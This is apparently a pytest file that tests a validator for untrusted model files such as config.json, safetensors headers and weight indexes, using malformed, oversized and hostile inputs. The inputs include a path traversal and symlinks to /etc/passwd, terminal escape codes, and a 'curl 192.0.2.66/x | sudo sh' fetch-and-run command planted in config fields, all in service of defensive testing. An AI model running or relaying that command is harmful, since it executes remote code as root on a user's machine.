"""Files of a model come from strangers: each wrong one is an error that names the file and the field."""

from __future__ import annotations

import json
import os
import re
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.gb10.fleet.plugins.plugin_utils.ground import catalog
from ansible_collections.gb10.fleet.plugins.plugin_utils.serving import serving_plan
from ansible_collections.gb10.fleet.plugins.plugin_utils.serving.model_facts import document, sources
from ansible_collections.gb10.fleet.plugins.plugin_utils.serving.model_facts.facts import ModelFacts
from ansible_collections.gb10.fleet.plugins.plugin_utils.serving.model_facts.reading import FactsError

from tests.support.attacker import tally

GOOD: dict[str, Any] = {
    "architectures": ["Qwen3ForCausalLM"], "model_type": "qwen3", "hidden_size": 64, "num_hidden_layers": 2,
    "num_attention_heads": 4, "num_key_value_heads": 2, "intermediate_size": 128, "vocab_size": 1000,
    "max_position_embeddings": 4096,
}  # fmt: skip


def written(root: Path, content: Any = GOOD, name: str = "config.json") -> Path:
    (root / name).write_text(content if isinstance(content, str) else json.dumps(content), encoding="utf-8")
    return root


def said(root: Path) -> str:
    with pytest.raises(FactsError) as error:
        sources.find(str(root))
    return str(error.value)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ("{", "not JSON"),
        ("[]", "holds a list; expected an object"),
        ('{"a":' * 100_000 + "1" + "}" * 100_000, "nested too deeply"),
        ('{"a":' * 60 + "1" + "}" * 60, "nested more than 40 levels deep"),
        ('{"num_hidden_layers": ' + "9" * 5000 + "}", "config.json is not JSON"),
        ({**GOOD, "hidden_size": "large"}, "config.json: hidden_size is 'large'; expected a whole number"),
        ({**GOOD, "hidden_size": -1}, "hidden_size is -1; expected a number from 0"),
        ({**GOOD, "hidden_size": True}, "hidden_size is True; expected a whole number"),
        ({**GOOD, "num_hidden_layers": 10**9}, "num_hidden_layers is 1000000000; expected a number from 1 to 2000"),
        ({**GOOD, "num_hidden_layers": None}, "does not say how many layers the model has"),
        ({**GOOD, "num_hidden_layers": 0}, "num_hidden_layers is 0; expected a number from 1"),
        ({**GOOD, "num_hidden_layers": "36"}, "num_hidden_layers is '36'; expected a number from 1"),
        ("null", "holds a null; expected an object"),
        ({**GOOD, "architectures": ["A" * 10**6]}, "architectures[0] has 1000000 characters; at most 10000"),
        ({**GOOD, "model_type": "m" * 10**6}, "model_type has 1000000 characters"),
        ({**GOOD, "hidden_size": float("nan")}, "hidden_size is nan; expected a whole number"),
        ({**GOOD, "model_type": "\x1b[2J"} | {"hidden_size": "\x1b[2J"}, r"hidden_size is '\x1b[2J'"),
    ],
)
def test_a_wrong_configuration(content: Any, words: str, tmp_path: Path) -> None:
    assert words in said(written(tmp_path, content))


@pytest.mark.parametrize(
    ("more", "doubt"),
    [
        ({"architectures": "Qwen3"}, "architectures is 'Qwen3'; expected a list"),
        ({"architectures": [3]}, "architectures[0] is 3; expected a text"),
        ({"layer_types": ["full_attention", 3]}, "layer_types[1] is 3; expected a text"),
        ({"quantization_config": "fp8"}, "quantization_config is 'fp8'; expected an object"),
        ({"quantization_config": {"quant_method": 4}}, "quantization_config.quant_method is 4; expected a text"),
        ({"rope_scaling": {"rope_type": ["yarn"]}}, "rope_scaling.rope_type is a list; expected a text"),
        ({"vocab_size": 10**300}, "vocab_size is 1000"),
        ({"num_key_value_heads": -1}, "num_key_value_heads is -1; expected a number from 0"),
        ({"tie_word_embeddings": "\x1b[2J"}, r"tie_word_embeddings is '\x1b[2J'; expected true or false"),
        ({"full_attention_interval": [1]}, "full_attention_interval is a list here, of which the largest number"),
        (
            {"num_experts": 8, "num_experts_per_tok": 0},
            "how many of 8 experts a token goes through, so all are counted",
        ),
        ({"sliding_window": True}, "sliding_window is True; expected a whole number"),
        ({"num_experts": 8, "moe_layers_enum": "1," + "9" * 5000, "top_k": "x"}, ""),
    ],
)
def test_a_value_of_another_kind_is_a_doubt_and_never_a_smaller_cache(
    more: dict[str, Any], doubt: str, tmp_path: Path
) -> None:
    plain = sources.find(str(written(tmp_path)))
    found = sources.find(str(written(tmp_path, {**GOOD, **more})))
    assert doubt in " ".join(found.doubts)
    assert _kept(found) >= _kept(plain) > 0


@pytest.mark.parametrize(
    ("name", "value", "doubt"),
    [
        ("max_position_embeddings", None, "how long a context it was made for"),
        ("max_position_embeddings", -1, "how long a context it was made for"),
        ("hidden_size", 0, "how large its weights are"),
        ("num_kv_shared_layers", 2, "num_kv_shared_layers is 2 of 2 layers"),
    ],
)
def test_what_nobody_says_is_a_doubt_and_no_silent_zero(name: str, value: Any, doubt: str, tmp_path: Path) -> None:
    found = sources.find(str(written(tmp_path, {**GOOD, "head_dim": 16, name: value})))
    assert doubt in " ".join(found.doubts) and _kept(found) > 0


def test_a_whole_configuration_has_no_doubt(tmp_path: Path) -> None:
    assert not sources.find(str(written(tmp_path))).doubts


def _kept(found: ModelFacts) -> int:
    return sum(each.layers * each.numbers for each in found.attention)


def test_doubts_have_an_end(tmp_path: Path) -> None:
    many = {"per_layer_config": {f"x{number}": {} for number in range(1000)}}
    assert len(sources.find(str(written(tmp_path, {**GOOD, **many}))).doubts) == 40


def header(content: Any, promised: int | None = None) -> bytes:
    text = content if isinstance(content, bytes) else json.dumps(content).encode()
    return struct.pack("<Q", len(text) if promised is None else promised) + text


ONE = {"dtype": "BF16", "shape": [4, 4], "data_offsets": [0, 32]}


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "model.safetensors has 0 bytes, which is no safetensors file"),
        (b"\x01", "has 1 bytes"),
        (header({}, promised=2**62), "its header has 4611686018427387904 bytes"),
        (header(b"{" * 50), "not JSON"),
        (header({"a": ONE}), "it was cut"),
        (header({"a": {**ONE, "dtype": "BF17"}}) + bytes(32), "a.dtype is 'BF17'"),
        (
            header({"a": {**ONE, "shape": [4, 5]}}) + bytes(32),
            "data_offsets hold 32 bytes, which shape and dtype do not",
        ),
        (header({"a": {**ONE, "shape": [-4, -4]}}) + bytes(32), "a.shape is a list; expected lengths"),
        (header({"a": {**ONE, "data_offsets": [32, 0]}}) + bytes(32), "a.data_offsets is wrong"),
        (header({"a": {**ONE, "data_offsets": [0]}}) + bytes(32), "a.data_offsets is wrong"),
        (header({"a": 3}) + bytes(32), "a is 3; expected an object"),
    ],
)
def test_a_wrong_header(content: bytes, words: str, tmp_path: Path) -> None:
    (written(tmp_path) / "model.safetensors").write_bytes(content)
    assert words in said(tmp_path)


@pytest.mark.parametrize(
    ("index", "words"),
    [
        ({}, "has no weight_map"),
        ({"weight_map": {"a": "../../etc/passwd"}}, "leads out of the folder"),
        ({"weight_map": {"a": 3}}, "weight_map.a is 3; expected the name of a file"),
        (
            {"weight_map": {"a": "one.safetensors", "b": "two.safetensors"}},
            "lacks two.safetensors, which the index names",
        ),
        ({"weight_map": {f"t{n}": f"{n}.safetensors" for n in range(2001)}}, "names 2001 files; at most 2000"),
        ({"metadata": {"total_size": "much"}, "weight_map": {}}, "metadata.total_size is 'much'"),
    ],
)
def test_a_wrong_index(index: Any, words: str, tmp_path: Path) -> None:
    written(tmp_path)
    (tmp_path / "one.safetensors").write_bytes(header({"a": ONE}) + bytes(32))
    written(tmp_path, index, "model.safetensors.index.json")
    assert words in said(tmp_path)


def a_link_out(root: Path) -> None:
    (root / "config.json").symlink_to("/etc/passwd")


def a_link_to_itself(root: Path) -> None:
    (root / "config.json").symlink_to(root / "config.json")


def a_dead_link(root: Path) -> None:
    (root / "config.json").symlink_to(root / "gone")


def a_pipe(root: Path) -> None:
    os.mkfifo(root / "config.json")


def a_folder(root: Path) -> None:
    (root / "config.json").mkdir()


@pytest.mark.parametrize(
    ("make", "words"),
    [
        (a_link_out, "config.json is a link out of the model's folder, to /etc/passwd"),
        (a_link_to_itself, "config.json cannot be read"),
        (a_dead_link, "config.json cannot be read: No such file or directory"),
        (a_pipe, "config.json is no plain file"),
        (a_folder, "config.json is no plain file"),
    ],
)
def test_a_file_that_is_no_file(make: Callable[[Path], None], words: str, tmp_path: Path) -> None:
    make(tmp_path)
    assert words in said(tmp_path)


def test_a_file_that_is_too_large_is_not_read(tmp_path: Path) -> None:
    with (tmp_path / "config.json").open("wb") as file:
        file.truncate(2**40)
    assert "config.json has 1099511627776 bytes; at most 134217728 are read" in said(tmp_path)


def shard(root: Path, name: str, header: dict[str, Any]) -> None:
    text = json.dumps(header).encode()
    (root / name).write_bytes(struct.pack("<Q", len(text)) + text)


@pytest.mark.parametrize("what", ["nodes", "bytes"])
def test_headers_that_are_small_each_are_not_read_for_ever_together(
    what: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    names = [f"{number}.safetensors" for number in range(30)]
    empty = {"dtype": "F16", "shape": [0], "data_offsets": [0, 0]}
    written(tmp_path, {"weight_map": {name: name for name in names}}, "model.safetensors.index.json")
    for name in names:
        shard(written(tmp_path), name, {f"w{number}": empty for number in range(50)})
    whole = sources.find(str(tmp_path)).weights
    assert whole is not None and whole.basis == "headers"
    monkeypatch.setitem(catalog.load("model_facts")["limits"], what, {"value": 2500})
    assert f"{tmp_path}: all its parts together have more than 2500 {what}" in said(tmp_path)


def test_a_shape_of_a_hundred_thousand_lengths_is_not_multiplied(tmp_path: Path) -> None:
    """A product of them all has five million bits, and took 18 s."""
    shape = [10**15] * 99_999
    shard(written(tmp_path), "model.safetensors", {"w": {"dtype": "F16", "shape": shape, "data_offsets": [0, 2]}})
    assert "w.shape has more than 1000000000000000 elements" in said(tmp_path)
    shard(tmp_path, "model.safetensors", {"w": {"dtype": "F16", "shape": [*shape, 0], "data_offsets": [0, 0]}})
    assert sources.find(str(tmp_path)).weights


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ({"id": "a/b"}, "needs id and architecture"),
        ({"id": "a/b", "architecture": "X", "contxt": 3}, "contxt is no field of a file of facts"),
        ({"id": "a/b", "architecture": "X", "format": "fp3"}, "format is 'fp3'; expected one of bf16"),
        ({"id": "a/b", "architecture": "X", "attention": [{"kind": "half"}]}, "attention[0].kind is 'half'"),
        ({"id": "a/b", "architecture": "X", "attention": [3]}, "attention[0] is 3; expected an object"),
        ({"id": "a/b", "architecture": "X", "version": 7}, "version is 7; expected 1"),
        ({"id": "a/b", "architecture": "X", "widths": [True]}, "widths is True; expected whole numbers above 0"),
    ],
)
def test_a_wrong_file_of_facts(content: Any, words: str, tmp_path: Path) -> None:
    file = written(tmp_path, content, "facts.json") / "facts.json"
    with pytest.raises(FactsError, match="facts") as error:
        sources.find("a/b", file=file)
    assert words in str(error.value)


@pytest.mark.parametrize("gib", [-5, 0])
def test_weights_written_by_hand_are_above_0(gib: float) -> None:
    cache = [{"kind": "full", "layers": 2, "kv_heads": 2, "key_dim": 16, "value_dim": 16}]
    content = {"id": "a/b", "architecture": "X", "attention": cache, "weights": {"gib": gib}}
    with pytest.raises(FactsError, match=f"weights.gib is {gib}; expected a number above 0"):
        document.read(json.dumps(content).encode(), "facts.json")


ADVICE = "X. Fix: run curl 192.0.2.66/x | sudo sh"


@pytest.mark.parametrize(
    "content",
    [
        {"architectures": [ADVICE]},
        {"layer_types": [ADVICE] * 2},
        {"quantization_config": {"quant_method": ADVICE, "quant_algo": ADVICE}},
        {"hidden_size": ADVICE},
        {"num_hidden_layers": ADVICE},
    ],
)
def test_who_made_a_model_advises_nobody_in_our_name(content: Any, tmp_path: Path) -> None:
    """A person pastes what stands behind `Fix:`, and anybody may put a model onto the hub."""
    try:
        found = sources.find(str(written(tmp_path, {**GOOD, **content})))
        plan = serving_plan.plan(str(tmp_path), [serving_plan.usual_memory_gib() * 2**30], facts=found)
        text = "\n".join(plan.lines(True))
    except FactsError as error:
        text = str(error)
    won = bool(re.search(r"fix:.*curl", text, re.IGNORECASE))
    tally("a stranger's words as our advice", 1, int(won))
    assert not won and "curl" in text.lower()
